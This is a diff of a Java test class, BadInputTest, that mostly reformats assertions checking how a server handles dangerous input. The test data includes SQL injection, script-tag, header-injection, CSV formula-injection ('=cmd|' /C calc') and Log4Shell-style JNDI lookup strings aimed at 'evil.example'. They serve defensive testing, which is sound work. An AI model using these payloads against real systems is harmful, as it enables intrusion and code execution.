+                      + ",\"error\":{\"code\":\"c\",\"message\":"
+                      + json
+                      + "},\"attributes\":{\"a\":"
+                      + json
+                      + "}}\n";
                 })
             .collect(Collectors.joining());
 
@@ -552,7 +998,8 @@ class BadInputTest {
             .lines()
             .map(row -> AuditJson.lenient().readTree(row))
             .peek(row -> assertThat(row.at("/event/attributes/a")).isEqualTo(row.at("/event/file")))
-            .peek(row -> assertThat(row.at("/event/error/message")).isEqualTo(row.at("/event/file")))
+            .peek(
+                row -> assertThat(row.at("/event/error/message")).isEqualTo(row.at("/event/file")))
             .map(row -> row.at("/event/file").asString())
             .toList();
     assertThat(ofLedger).containsExactlyElementsOf(DANGEROUS);
@@ -560,10 +1007,17 @@ class BadInputTest {
     assertThat(csv)
         .contains("\r\n'; DROP TABLE batch; --,FAILED", "\r\n<script>alert(1)</script>,FAILED")
         .contains("\r\n\"a\r\nSet-Cookie: x=y\",FAILED", "\r\n${jndi:ldap://evil.example/a},FAILED")
-        .contains("\r\n'=cmd|' /C calc'!A0,FAILED", "\r\n'+1,FAILED", "\r\n'-1,FAILED", "\r\n'@SUM(A1),FAILED")
+        .contains(
+            "\r\n'=cmd|' /C calc'!A0,FAILED",
+            "\r\n'+1,FAILED",
+            "\r\n'-1,FAILED",
+            "\r\n'@SUM(A1),FAILED")
         .contains("\r\n\u001b[31mred\u001b[0m\u0007,FAILED");
     // What the page shows comes as JSON and is set as text; the document itself has none of it.
-    String page = node.sendWithout("GET", "/ui" + batch.substring("/api/v1".length()), "", "Cookie", cookie).is(200).body();
+    String page =
+        node.sendWithout("GET", "/ui" + batch.substring("/api/v1".length()), "", "Cookie", cookie)
+            .is(200)
+            .body();
     assertThat(page).doesNotContain("alert(1)", "DROP TABLE", "jndi");
     try (EventStream feed = node.feed(batch + "/feed")) {
       assertThat(feed.next("snapshot").toString()).contains("=1+1");
@@ -593,7 +1047,12 @@ class BadInputTest {
         Wire never = new Wire(node.port());
         Wire lineage = new Wire(node.port());
         Wire noHead = new Wire(node.port())) {
-      drops.send("POST " + node.opened("") + "/events HTTP/1.1\r\n" + head + "Content-Length: 500\r\n\r\n{");
+      drops.send(
+          "POST "
+              + node.opened("")
+              + "/events HTTP/1.1\r\n"
+              + head
+              + "Content-Length: 500\r\n\r\n{");
       never.send("PUT " + Node.fresh() + " HTTP/1.1\r\n" + head + "Content-Length: 500\r\n\r\n{");
       lineage.send("POST /api/v1/lineage HTTP/1.1\r\n" + head + "Content-Length: 500\r\n\r\n{");
       noHead.send("GET /api/v1/batches HTTP/1.1\r\nHost");
